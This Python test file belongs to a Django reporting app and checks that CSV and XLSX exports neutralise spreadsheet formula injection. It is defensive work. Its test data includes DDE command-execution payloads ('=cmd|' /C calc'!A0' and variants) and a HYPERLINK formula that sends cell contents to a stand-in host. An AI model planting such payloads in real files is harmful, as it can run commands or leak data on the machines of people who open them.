"""Exports never hand a spreadsheet a formula (CSV/formula injection, OWASP): a note, a value, an
evidence reference or a user's name that starts with = + - @ TAB or CR comes back in every CSV export
(observations, history, DHIS2) with a leading apostrophe; numbers stay numbers (−5 is −5); XLSX files
hold such texts as text cells, never as formulas. The rule is ``ntm.core.cell_safety``; on PostgreSQL
the observation CSV is formatted by the server (run with a PostgreSQL DATABASE_URL to cover it)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile

import pytest
from django.db import connection
from django.test import Client
from hypothesis import given, settings
from hypothesis import strategies as st

from ntm.apps.observations.testing import save_version
from ntm.core.cell_safety import is_formula_like, neutralise, sql_prefix

from .conftest import NGUYEN_LY, SET

pytestmark = pytest.mark.django_db

PERIOD = "2023-09"  # not used by the world's other data
# indicators of the set (DHIS2 leaves out a code the catalogue does not know): one per free text, then a
# number ("10", triệu đồng) and a value typed as a formula on another number ("9.1")
CODES = ["1.1", "1.2", "2.1", "2.2", "2.3", "2.4", "3.1", "3.2", "4.1", "4.2", "5", "6.1", "6.2", "6.3", "7", "8.1"]
NUMBER, TYPED = "10", "9.1"
ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1\ndòng 2, có phẩy",
]
SAFE = ["-5", "+1,5", "-12.5%", "Ghi chú bình thường", " =khoảng trắng trước", "'=đã có nháy", "−5", ""]


@pytest.fixture
def noted(world):
    """Observations of Nguyên Lý whose free texts are attacks (note, evidence, who; a value as typed)."""

    unit = world["units"][NGUYEN_LY]
    made = []
    for k, text in enumerate(ATTACKS + SAFE):
        made.append(
            save_version(
                unit=unit,
                set_code=SET,
                period=PERIOD,
                year=2023,
                indicator=CODES[k],
                assessment=k % 2 == 0,
                note=text,
                evidence=text if k < 3 else "",
                created_by_name=text if k == 1 else "Cán bộ xã",
                source="import",
            )
        )  # source, batch, codes and unit names are set by the system, never typed
    # a number typed with a sign stays the number; a text value that is a formula does not
    made.append(
        save_version(
            unit=unit,
            set_code=SET,
            period=PERIOD,
            year=2023,
            indicator=NUMBER,
            value_text="-5",
            value_num=-5.0,
            assessment=False,
        )
    )
    made.append(
        save_version(
            unit=unit,
            set_code=SET,
            period=PERIOD,
            year=2023,
            indicator=TYPED,
            value_text="=1+1",
            assessment=True,
            note="=2+2",
            version=1,
            current=False,
        )
    )
    made.append(
        save_version(
            unit=unit,
            set_code=SET,
            period=PERIOD,
            year=2023,
            indicator=TYPED,
            value_text="-1+A1",
            assessment=True,
            note="@A1",
            version=2,
        )
    )
    return made


def _download(world, what: str, fmt: str, history: bool = False):
    c = Client()
    c.force_login(world["users"]["superuser"])
    r = c.get(
        "/bao-cao/trao-doi/xuat/",
        {
            "unit": NGUYEN_LY,
            "set": SET,
            "period": PERIOD,
            "what": what,
            "format": fmt,
            **({"history": "1"} if history else {}),
        },
    )
    assert r.status_code == 200, r.status_code
    return b"".join(r.streaming_content) if r.streaming else r.content


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


@pytest.mark.parametrize(
    "what,history", [("observations", False), ("observations", True), ("dhis2", False), ("dhis2", True)]
)
def test_no_csv_export_hands_a_spreadsheet_a_formula(world, noted, what, history):
    rows = _cells(_download(world, what, "csv", history))
    assert len(rows) > len(ATTACKS)
    flat = [c for r in rows for c in r]
    bad = [c for c in flat if is_formula_like(c)]
    assert not bad, f"{what} CSV cells a spreadsheet would evaluate: {bad}"
    for text in SAFE:  # plain texts and signed numbers come back as they were
        if text:
            assert any(text in c for c in flat), (text, what)
    if what == "observations":
        for text in ATTACKS:
            assert "'" + text in flat, (text, what)
        head = rows[0]
        row = next(r for r in rows if r[head.index("Chỉ tiêu")] == NUMBER)
        assert (row[head.index("Giá trị")], row[head.index("Giá trị số")]) == ("-5", "-5.0")
        assert ("'=cmd|' /C calc'!A0" in flat) and ("'=1+1\ndòng 2, có phẩy" in flat)
        assert ("'=2+2" in flat) == history  # the earlier version is in the history only
    else:
        head = [h.lower() for h in rows[0]]
        values = {r[0]: r[head.index("value")] for r in rows[1:]}
        assert values[f"{SET}:{NUMBER}"] == "-5"  # DHIS2 value of the number −5
        assert f"{SET}:{TYPED}" not in values  # a formula typed on a number is no DHIS2 value at all
        for text in ATTACKS:  # the note is the comment, neutralised
            assert any(c.startswith(neutralise(text)) for c in flat), (text, what)


def test_the_observation_csv_of_the_database_equals_the_generic_writer_with_attacks(world, noted):
    from ntm.apps.observations import exports as X

    for history in (False, True):
        qs = X.select_observations(None, set_code=SET, period=PERIOD, history=history)
        header, generic = X.export("observations", "csv", qs)
        assert "".join(X.observations_csv(qs)) == "".join(X.csv_stream(header, generic))


@pytest.mark.parametrize("what", ["observations", "dhis2"])
def test_xlsx_exports_keep_texts_as_texts(world, noted, what):
    data = _download(world, what, "xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    assert "=cmd|' /C calc'!A0" in sheet.replace("&apos;", "'")  # the text itself, as typed (no apostrophe needed)
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(data))
    values = [c.value for row in wb.active.iter_rows() for c in row]
    if what == "observations":
        assert "=cmd|' /C calc'!A0" in values and -5 in values  # the text, and the number as a number
    else:
        assert "-5" in values and any(str(v).startswith("=cmd|' /C calc'!A0") for v in values)  # a text cell


def test_the_bulletin_and_catalogue_workbooks_write_no_formula():
    from ntm.apps.reports.catalog_xlsx import export_set
    from ntm.apps.reports.render import to_xlsx
    from ntm.core.catalog import default_catalog
    from ntm.core.reports.model import Bar, Chart, Document, Paragraph, Table

    doc = Document(
        kind="bulletin",
        issuer=["UBND HUYỆN X"],
        place="X",
        issued=dt.date(2023, 12, 1),
        title="BẢN TIN",
        subtitle='=HYPERLINK("http://example.invalid")',
        blocks=[
            Paragraph("=cmd|' /C calc'!A0"),
            Table(caption="=1+1", columns=["=A1", "Số"], rows=[["=SUM(1)", "12"]], note="=2+2"),
            Chart(title="=3+3", bars=[Bar(label="=4+4", value=3.0, text="3")], maximum=5.0, axis_label="=5+5"),
        ],
    )
    for data in (to_xlsx(doc), export_set(default_catalog().get(SET))):
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            for name in z.namelist():
                if name.startswith("xl/worksheets/"):
                    xml = z.read(name).decode()
                    assert not re.search(r"<f[ >]", xml), name


@pytest.mark.parametrize("big", [False, True])
def test_the_entry_template_keeps_a_note_as_text(world, big, monkeypatch):
    """The XLSX entry template carries the current notes and evidence: "=…" stays a text cell (small
    templates are styled cell by cell, big ones written as plain rows: both)."""
    from ntm.apps.observations import imports
    from ntm.core.catalog import default_catalog
    from ntm.core.periods import Period

    unit = world["units"][NGUYEN_LY]
    save_version(
        unit=unit,
        set_code=SET,
        period=PERIOD,
        year=2023,
        indicator="1.1",
        assessment=True,
        note='=HYPERLINK("http://example.invalid")',
        evidence="=cmd|' /C calc'!A0",
    )
    cs = default_catalog().get(SET)
    if big:  # the plain-row path of templates above 20,000 rows, without writing that many
        monkeypatch.setattr(cs.__class__, "indicator_count", property(lambda self: 10**6))
    buf = io.BytesIO()
    imports.write_template(buf, [unit], cs, Period.parse(PERIOD))
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "HYPERLINK" in xml and not re.search(r"<f[ >]", xml)


# -- the rule, and its SQL twins --------------------------------------------------------------------
def test_the_rule_follows_owasp_and_keeps_signed_numbers():
    for text in ATTACKS:
        assert is_formula_like(text) and neutralise(text) == "'" + text
    for text in SAFE:
        assert not is_formula_like(text) and neutralise(text) == text


TEXTS = st.one_of(
    st.text(max_size=12),
    st.sampled_from(ATTACKS + SAFE + ["-", "+", "-1e5", "-1,2,3", "-5 ", "-0x1F", "-5%", "+.5", "=", "@", "-٣"]),
    st.tuples(st.sampled_from(list("=+-@\t\r")), st.text(alphabet="0123456789.,%e+-xA ", max_size=6)).map("".join),
)


@settings(max_examples=300, deadline=None, derandomize=True)
@given(text=TEXTS)
def test_the_sql_of_the_database_neutralises_as_python_does(text):
    text = text.replace("\x00", "")  # PostgreSQL text holds no NUL (refused at entry)
    prefix = sql_prefix("%s", connection.vendor)
    with connection.cursor() as cur:
        cur.execute(f"SELECT {prefix} || %s", [text] * (prefix.count("%s") + 1))
        got = cur.fetchone()[0]
    assert got == neutralise(text)
    assert not is_formula_like(got)
